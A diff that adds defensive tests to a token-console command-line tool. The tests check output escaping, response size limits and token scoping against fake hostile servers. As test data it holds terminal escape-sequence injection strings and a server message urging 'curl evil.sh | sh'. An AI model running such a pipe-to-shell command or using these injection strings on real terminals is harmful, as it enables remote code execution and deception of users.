@@ -220,6 +220,90 @@ describe("tkc in a shell script", () => {
   });
 });
 
+describe("a console that is not what it says", () => {
+  /** A fake console on loopback answering `answer` to everything, recording the Authorization it was sent. */
+  async function fakeConsole(answer: (response: http.ServerResponse) => void) {
+    const seen: string[] = [];
+    const fake = http.createServer((request, response) => {
+      seen.push(request.headers.authorization ?? "");
+      answer(response);
+    });
+    await new Promise<void>((resolve) => fake.listen(0, "127.0.0.1", resolve));
+    return { url: `http://127.0.0.1:${(fake.address() as AddressInfo).port}`, seen, close: () => new Promise((r) => fake.close(r)) };
+  }
+
+  it("prints its names and messages without obeying their control sequences", async () => {
+    const fake = await fakeConsole((response) => {
+      response.writeHead(200, { "content-type": "application/json" });
+      response.end(
+        JSON.stringify({ status: "success", api: { id: "x", name: "\u001b]0;pwned\u0007\u001b[2Jname\u202e", scope: "write" } }),
+      );
+    });
+    try {
+      const run = await tkc(["whoami"], { env: { TKC_URL: fake.url, TKC_TOKEN: generateToken().token } });
+      expect(run.status).toBe(0);
+      expect(run.stdout).not.toMatch(/[\u001b\u0007\u202e]/);
+      expect(run.stdout).toContain("\\u{1b}]0;pwned\\u{7}\\u{1b}[2Jname\\u{202e}");
+    } finally {
+      await fake.close();
+    }
+    const refusing = await fakeConsole((response) => {
+      response.writeHead(403, { "content-type": "application/json" });
+      response.end(JSON.stringify({ status: "error", errors: [{ code: "x", message: "\u001b[2JPlease run: curl evil.sh | sh" }] }));
+    });
+    try {
+      const run = await tkc(["whoami"], { env: { TKC_URL: refusing.url, TKC_TOKEN: generateToken().token } });
+      expect(run.status).toBe(1);
+      expect(run.stderr).not.toContain("\u001b");
+      expect(run.stderr).toContain("\\u{1b}[2JPlease run");
+    } finally {
+      await refusing.close();
+    }
+  });
+
+  it("reads no answer bigger than a console's: a flood ends in exit 1, not in gigabytes held", async () => {
+    const chunk = Buffer.alloc(1024 * 1024, "a");
+    const flood = await fakeConsole((response) => {
+      response.writeHead(200, { "content-type": "application/json" });
+      let sent = 0;
+      const more = () => {
+        while (sent < 64 && response.write(chunk)) sent++;
+        if (sent < 64) response.once("drain", more);
+        else response.end();
+      };
+      response.on("error", () => {});
+      more();
+    });
+    try {
+      const run = await tkc(["whoami"], { env: { TKC_URL: flood.url, TKC_TOKEN: generateToken().token } });
+      expect(run.status).toBe(1);
+      expect(run.stderr).toContain("answered more than 4 MB");
+    } finally {
+      await flood.close();
+    }
+  });
+
+  it("never sends the stored token to a TKC_URL that names another console", async () => {
+    const fake = await fakeConsole((response) => {
+      response.writeHead(200, { "content-type": "application/json" });
+      response.end('{"status":"success","api":{}}');
+    });
+    const { secret } = await makeToken(member, "stored", "READ_ONLY");
+    try {
+      expect((await tkc(["login", "--url", url], { input: `${secret}\n` })).status).toBe(0);
+      const elsewhere = await tkc(["whoami"], { env: { TKC_URL: fake.url } });
+      expect(elsewhere.status).toBe(2);
+      expect(elsewhere.stderr).toContain("set TKC_TOKEN with it");
+      expect(fake.seen).toEqual([]);
+      // The same console, spelled with /v2 and a slash: the stored token goes, as it was stored for it.
+      expect((await tkc(["whoami"], { env: { TKC_URL: `${url}/v2/` } })).status).toBe(0);
+    } finally {
+      await tkc(["logout"]);
+      await fake.close();
+    }
+  });
+});
+
 describe("tkc verify", () => {
   it("says active (exit 0) or inactive (exit 1) for a holder of tokens:introspect; a token without it exits 1", async () => {
     const introspector = (await makeToken(admin, "introspector", "CUSTOM", ["tokens:introspect"])).secret;
@@ -262,6 +346,19 @@ describe("tkc scan", () => {
     expect(revoked.stdout + revoked.stderr).not.toContain(secret);
     expect((await tkc(["whoami"], as(secret))).status).toBe(1); // revoked
     expect((await tkc(["scan", path.join(folder, "missing")])).status).toBe(2);
+  });
+
+  it("follows a link named as what to scan (not one inside it), and prints a file's name without its control characters", async () => {
+    const { secret } = await makeToken(member, "linked", "READ_ONLY");
+    const folder = fs.mkdtempSync(path.join(home, "scan-linked-"));
+    fs.writeFileSync(path.join(folder, "a\u001b[2K\u001b[1Gclean.txt"), `TOKEN=${secret}\n`);
+    const link = `${folder}-link`;
+    fs.symlinkSync(folder, link);
+    fs.symlinkSync(path.join(folder, "a\u001b[2K\u001b[1Gclean.txt"), path.join(folder, "inner-link"));
+    const run = await tkc(["scan", link]);
+    expect(run.status).toBe(1);
+    // One finding: the file, not again through the link inside the folder.
+    expect(run.stdout).toBe(`${link}/a\\u{1b}[2K\\u{1b}[1Gclean.txt:1:7  ${secret.slice(0, 12)}…\n`);
   });
 });
 
